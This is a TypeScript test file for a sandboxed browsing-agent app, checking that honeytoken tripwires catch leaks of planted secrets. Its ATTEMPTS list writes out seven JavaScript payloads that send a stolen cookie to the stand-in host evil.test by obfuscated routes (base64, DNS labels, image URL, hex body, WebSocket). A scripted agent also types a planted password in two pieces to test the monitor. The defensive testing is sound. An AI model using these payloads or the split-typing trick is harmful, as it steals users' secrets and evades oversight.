import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { fileOf, makeHoneytokens } from '../../electron/engine/honeytokens/honeytoken';
import { type Sprung, Tripwire } from '../../electron/engine/honeytokens/tripwire';
import type { Docker } from '../../electron/engine/sandbox/docker';
import { execStream } from '../../electron/engine/sandbox/exec-stream';
import { answer } from '../helpers/answer';
import { makeEngine } from '../helpers/make-engine';
import { finish, reply, say, use } from '../helpers/make-loop';
import { makeSandbox } from '../helpers/make-sandbox';
import { TestSite } from '../helpers/test-site';

/** What the browser's user, and so anybody who has got into the browser, reads there. */
async function readPlanted(docker: Docker, containerId: string): Promise<string> {
  const command = ['cat', '/home/browser/backup-access.txt'];
  const stream = await execStream(docker, containerId, { command, user: 1001 });
  const parts: Buffer[] = [];
  for await (const part of stream) parts.push(part as Buffer);
  return Buffer.concat(parts).toString('utf8');
}

describe('a page that has found a planted secret', () => {
  const tokens = makeHoneytokens(['page.test'], randomBytes);
  const tripwire = new Tripwire(tokens);
  const sprung: Sprung[] = [];
  const site = new TestSite({ '/': '<title>Shop</title><p>Shop' });
  let made: Awaited<ReturnType<typeof makeSandbox>>;

  beforeAll(async () => {
    tripwire.sprung.on((one) => sprung.push(one));
    const cookies = tokens.flatMap(({ host, text }) =>
      host === null ? [] : [{ host, isPlain: true, value: text }],
    );
    made = await makeSandbox({
      site,
      hosts: ['page.test', 'evil.test'],
      policy: { allowed_hosts: ['page.test:80', 'evil.test:80', '*.evil.test:80'] },
      planted: { plants: { file: fileOf(tokens), cookies }, tripwire },
    });
  }, 60_000);
  afterAll(() => made?.dispose());
  beforeEach(() => {
    sprung.length = 0;
    tripwire.reset();
    site.requests.length = 0;
  });

  const NONE = 'catch(() => 0)';
  const FOUND = "document.cookie.split('=')[1]";
  const ATTEMPTS: readonly (readonly [string, string, string])[] = [
    ['in an address, in base64', `fetch('http://evil.test/?q=' + btoa(${FOUND})).${NONE}`, 'address'],
    [
      'in an address, backwards and in pieces',
      `fetch('http://evil.test/' + [...${FOUND}].reverse().join('/')).${NONE}`,
      'address',
    ],
    [
      'in the labels of a host name',
      `fetch('http://' + ${FOUND}.slice(0, 24) + '.evil.test/').${NONE}`,
      'address',
    ],
    [
      'in a picture’s address',
      `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = 'http://evil.test/' + ${FOUND}; }).then(() => 0)`,
      'address',
    ],
    [
      'in a body, in hex',
      `fetch('http://evil.test/', { method: 'POST', mode: 'no-cors', body: [...${FOUND}].map((c) => c.charCodeAt(0).toString(16)).join(' ') }).${NONE}`,
      'body',
    ],
    [
      'in a file of a form',
      `(() => { const f = new FormData(); f.append('f', new Blob([new TextEncoder().encode(${FOUND})]), 'a.bin'); return fetch('http://evil.test/', { method: 'POST', mode: 'no-cors', body: f }).${NONE}; })()`,
      'body',
    ],
    [
      'over a WebSocket, which the browser tells nobody of',
      `new Promise((done) => { const s = new WebSocket('ws://evil.test/?q=' + ${FOUND}); s.onopen = s.onclose = s.onerror = () => done(0); })`,
      'bytes',
    ],
  ];

  it('has it where secrets are looked for', async () => {
    expect(await site.evaluate('/', 'document.cookie')).toContain('backup_session=');
    expect(await readPlanted(made.docker, made.sandbox.containerId)).toBe(fileOf(tokens));
  });

  it('may send it where it belongs', async () => {
    await site.evaluate('/', "fetch('/own').then(() => 0)");
    expect([sprung, tripwire.isSprung]).toEqual([[], false]);
  });

  it.each(ATTEMPTS)('can’t send it %s', async (_how, attempt, way) => {
    // Whoever answers is stopped too from then on, so nobody is waited for.
    void site.evaluate('/', `${attempt}; 0`).catch(() => undefined);
    await expect.poll(() => sprung.map((one) => one.way)).toContain(way);
    expect(sprung[0]?.token).toMatchObject({ kind: 'cookie', host: 'page.test' });
    expect(site.requests.filter(({ host }) => host.includes('evil'))).toEqual([]);
    expect(tripwire.isSprung).toBe(true);
    tripwire.reset();
    site.clear();
    await made.sandbox.browser.open(`http://page.test/?${Math.round(performance.now())}`);
    await site.until(() => site.events.some(({ type }) => type === 'ready'));
  });
});

it('a run halts when its agent types a planted secret, in pieces, and says where it was and where it came out', async () => {
  let planted = '';
  const turns = [
    () => reply(say('I look around.'), use('key', { text: 'ctrl+l' })),
    () => reply(use('type', { text: `x${planted.slice(0, 14)}` })),
    () => reply(use('type', { text: planted.slice(14) })),
  ];
  const made = await makeEngine({ script: () => turns.shift()?.() ?? finish() });
  const { id } = await made.start({ honeytokens: true, confirm: 'every' });
  const first = await made.approvalOf(id);
  const ready = await made.untilEntry(id, 'sandbox-ready');
  planted =
    /password: (\w+)/.exec(await readPlanted(made.engine.docker.docker, ready.detail.containerId))?.[1] ?? '';
  expect(planted).toHaveLength(32);
  answer(made.engine.approvals, { approvalId: first.id, verdict: 'approve', reason: '' });
  const second = await made.approvalOf(id);
  answer(made.engine.approvals, { approvalId: second.id, verdict: 'approve', reason: '' });
  const halt = await made.approvalOf(id);
  expect(halt).toMatchObject({
    kind: 'halt',
    level: 'critical',
    cause: { kind: 'honeytoken', planted: 'a file in the sandbox’s home', found: 'in what the agent wrote' },
  });
  answer(made.engine.approvals, { approvalId: halt.id, verdict: 'deny', reason: 'Kept paused.' });
  const paused = await made.untilState(id, 'paused');
  expect(paused.stateReason).toBe('A planted secret came out in what the agent wrote.');
  const alarm = await made.untilEntry(id, 'honeytoken');
  expect(alarm.detail).toEqual({
    planted: 'a file in the sandbox’s home',
    found: 'in what the agent wrote',
    host: null,
  });
  expect(JSON.stringify(await made.engine.sessions.record(id))).not.toContain(planted.slice(14));
  await made.engine.sessions.stop(id);
});
